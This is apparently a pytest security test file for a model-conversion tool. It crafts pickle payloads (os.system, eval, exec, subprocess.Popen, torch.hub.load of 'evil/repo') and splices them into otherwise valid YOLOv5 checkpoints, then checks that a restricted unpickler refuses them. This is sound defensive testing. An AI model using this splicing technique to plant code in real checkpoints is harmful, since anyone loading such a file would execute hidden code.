"""Crafted checkpoints that run code when unpickled: refused before anything runs, through the loader and the CLI.

tests/convert/test_unpickler.py covers a payload object saved with torch.save (os.system, eval, Popen). Here the
payload is spliced INTO a valid-looking checkpoint: the real YOLOv5n release checkpoint (shared data) or a
torch.save'd yolov5-statedict-v1 file, with a stack-neutral `GLOBAL f; arg; TUPLE1; REDUCE; POP` sequence
inserted at an opcode boundary in the middle of data.pkl. Everything else in the file is intact, so
`detect_source_kind` still sees a YOLOv5 checkpoint. A canary file proves nothing ran.
"""

from __future__ import annotations

import contextlib
import io
import pickletools
import struct
import zipfile
from pathlib import Path

import pytest
from tests.conftest import shared_path

from edgedet.cli import main
from edgedet.convert.adapters import detect_source_kind, pickle_globals
from edgedet.convert.adapters.yolov5 import RestrictedUnpickler, load_yolov5
from edgedet.errors import DataError, EdgedetError, MissingDependencyError

torch = pytest.importorskip("torch")


def _unicode(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def call_op(module: str, name: str, *args: str | list[str]) -> bytes:
    """Pickle opcodes that call module.name(*args) and discard the result (net stack effect: none)."""
    ops = b"c" + module.encode() + b"\n" + name.encode() + b"\n" + b"("
    for a in args:
        ops += b"](" + b"".join(_unicode(x) for x in a) + b"e" if isinstance(a, list) else _unicode(a)
    return ops + b"tR0"


def payloads(canary: Path) -> dict[str, bytes]:
    c = str(canary)
    return {
        "os.system": call_op("os", "system", f"echo pwned > {c}"),
        "posix.system": call_op("posix", "system", f"echo pwned > {c}"),
        "builtins.eval": call_op("builtins", "eval", f"open({c!r}, 'w').write('pwned')"),
        "builtins.exec": call_op("builtins", "exec", f"open({c!r}, 'w').write('pwned')"),
        "subprocess.Popen": call_op("subprocess", "Popen", ["touch", c]),
        "subprocess.check_call": call_op("subprocess", "check_call", ["touch", c]),
        "importlib.import_module": call_op("importlib", "import_module", "this"),
        "builtins.__import__": call_op("builtins", "__import__", "antigravity"),
        "torch.hub.load": call_op("torch.hub", "load", "evil/repo", "model"),
        "runpy.run_path": call_op("runpy", "run_path", c),
        # an allowed module with a name outside the allow-list
        "torch.nn.modules.conv.os": call_op("torch.nn.modules.conv", "os", "x"),
    }


def splice(pkl: bytes, payload: bytes, where: float = 0.5) -> bytes:
    """Insert `payload` at the opcode boundary nearest to `where` (fraction of the stream)."""
    starts = [pos for _, _, pos in pickletools.genops(pkl) if pos is not None]
    target = where * len(pkl)
    pos = min(starts[1:-1], key=lambda p: abs(p - target))  # not before PROTO, not after STOP
    return pkl[:pos] + payload + pkl[pos:]


def rewrite_checkpoint(src: Path, dst: Path, payload: bytes, where: float = 0.5) -> None:
    """Copy a torch zip checkpoint with the payload spliced into its data.pkl; every other entry unchanged."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith("data.pkl"):
                data = splice(data, payload, where)
            zout.writestr(info, data)


def cli(*argv: str) -> tuple[int, str]:
    """(exit code, the one `error:` line); fails on a traceback or several error lines (progress lines are ok)."""
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        rc = main(list(argv))
    text = err.getvalue()
    errors = [ln for ln in text.splitlines() if ln.startswith(("error:", "internal error:"))]
    assert "Traceback" not in text and len(errors) <= 1, text
    assert not errors or text.rstrip().splitlines()[-1] == errors[0], text
    return rc, errors[0] if errors else ""


@pytest.fixture(scope="module")
def statedict_ckpt(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A valid yolov5-statedict-v1 style file (format, yaml, names, stride, a state_dict of tensors)."""
    from collections import OrderedDict

    path = tmp_path_factory.mktemp("ckpt") / "yolov5-statedict.pt"
    sd = OrderedDict((f"model.{i}.conv.weight", torch.zeros(4, 3, 3, 3)) for i in range(6))
    torch.save(
        {
            "format": "yolov5-statedict-v1",
            "yaml": {"nc": 1},
            "names": ["a"],
            "stride": [8, 16, 32],
            "state_dict": sd,
        },
        path,
    )
    return path


PAYLOAD_NAMES = sorted(payloads(Path("x")))


@pytest.mark.parametrize("name", PAYLOAD_NAMES)
@pytest.mark.parametrize("where", [0.1, 0.5, 0.9])
def test_payload_nested_in_the_real_yolov5_checkpoint_is_refused(
    tmp_path: Path, name: str, where: float
) -> None:
    real = shared_path("models", "yolov5n.pt")
    canary = tmp_path / "canary"
    evil = tmp_path / "yolov5n.pt"
    rewrite_checkpoint(real, evil, payloads(canary)[name], where)
    module, _, func = name.rpartition(".")
    assert f"{module}.{func}" in pickle_globals(evil)  # the payload is visible without unpickling...
    assert detect_source_kind(str(evil)) == "yolov5"  # ...yet the file still looks like a YOLOv5 checkpoint
    with pytest.raises(DataError, match=rf"refusing to unpickle {module}\.{func}: a checkpoint is code"):
        load_yolov5(evil)
    assert not canary.exists()
    rc, err = cli("convert", str(evil), "--imgsz", "64", "--output", str(tmp_path / "out"))
    assert rc not in (0, 70) and err.startswith(f"error: refusing to unpickle {module}.{func}"), err
    assert not canary.exists()
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.onnx"))


@pytest.mark.parametrize("name", PAYLOAD_NAMES)
def test_payload_nested_in_a_statedict_checkpoint_is_refused(
    tmp_path: Path, statedict_ckpt: Path, name: str
) -> None:
    canary = tmp_path / "canary"
    evil = tmp_path / "evil.pt"
    rewrite_checkpoint(statedict_ckpt, evil, payloads(canary)[name])
    with pytest.raises(EdgedetError):
        load_yolov5(evil)
    assert not canary.exists()
    rc, err = cli("convert", str(evil), "--imgsz", "64", "--output", str(tmp_path / "out"))
    assert rc not in (0, 70) and err.startswith("error: "), err
    assert not canary.exists()


@pytest.mark.parametrize("name", PAYLOAD_NAMES)
def test_raw_restricted_unpickler_refuses_every_payload_before_calling_it(tmp_path: Path, name: str) -> None:
    canary = tmp_path / "canary"
    data = b"\x80\x02" + payloads(canary)[name] + b"N."
    with pytest.raises(DataError, match="refusing to unpickle"):
        RestrictedUnpickler(io.BytesIO(data)).load()
    assert not canary.exists()


def test_protocol_0_inst_opcode_is_refused(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    data = f"(S'echo pwned > {canary}'\nios\nsystem\n.".encode()
    with pytest.raises(DataError, match=r"refusing to unpickle os\.system"):
        RestrictedUnpickler(io.BytesIO(data)).load()
    assert not canary.exists()


def _ultralytics_lookalike(tmp_path: Path, canary: Path) -> Path:
    """A checkpoint naming an ultralytics class (so it is routed to the ultralytics loader) plus a payload."""
    path = tmp_path / "yolov8n.pt"
    torch.save({"model": None, "train_args": {}}, path)
    evil = tmp_path / "evil_ultra.pt"
    marker = call_op("ultralytics.nn.tasks", "DetectionModel") + call_op("posix", "system", f"touch {canary}")
    rewrite_checkpoint(path, evil, marker)
    return evil


def test_ultralytics_lookalike_with_payload_does_not_run_here(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    evil = _ultralytics_lookalike(tmp_path, canary)
    assert detect_source_kind(str(evil)) == "ultralytics"
    rc, err = cli("convert", str(evil), "--imgsz", "64", "--output", str(tmp_path / "out"))
    assert rc not in (0, 70) and err.startswith("error: "), err
    assert not canary.exists()


def test_ultralytics_lookalike_is_refused_by_an_allow_list(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    evil = _ultralytics_lookalike(tmp_path, canary)
    try:
        from edgedet.convert.api import ConvertConfig, convert

        convert(ConvertConfig(source=str(evil), imgsz=64, output=str(tmp_path / "out")))
    except MissingDependencyError:
        pytest.fail("stopped only by the missing ultralytics package, not by an allow-list")
    except DataError as exc:
        assert "refusing" in str(exc)
    assert not canary.exists()


@pytest.mark.parametrize("name", ["posix.system", "builtins.eval", "subprocess.Popen"])
def test_control_the_spliced_payload_is_live_under_plain_torch_load(
    tmp_path: Path, statedict_ckpt: Path, name: str
) -> None:
    """Without the allow-list the same file runs its payload: the refusals above are not vacuous."""
    import time

    canary = tmp_path / "canary"
    evil = tmp_path / "evil.pt"
    rewrite_checkpoint(statedict_ckpt, evil, payloads(canary)[name])
    ckpt = torch.load(str(evil), map_location="cpu", weights_only=False)
    assert ckpt["format"] == "yolov5-statedict-v1"  # the rest of the file is intact
    deadline = time.monotonic() + 5  # Popen runs `touch` in the background
    while not canary.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert canary.exists()


def test_ultralytics_allow_list_accepts_model_classes_only() -> None:
    from edgedet.convert.adapters.ultralytics import _allowed_global

    for ok in (
        "ultralytics.nn.tasks.DetectionModel",
        "ultralytics.nn.modules.conv.Conv",
        "torch.HalfStorage",
    ):
        assert _allowed_global(ok), ok
    for bad in (
        "ultralytics.nn.tasks.attempt_load_weights",
        "ultralytics.utils.checks.check_requirements",
        "ultralytics.utils.downloads.safe_download",
        "builtins.getattr",
        "posix.system",
    ):
        assert not _allowed_global(bad), bad
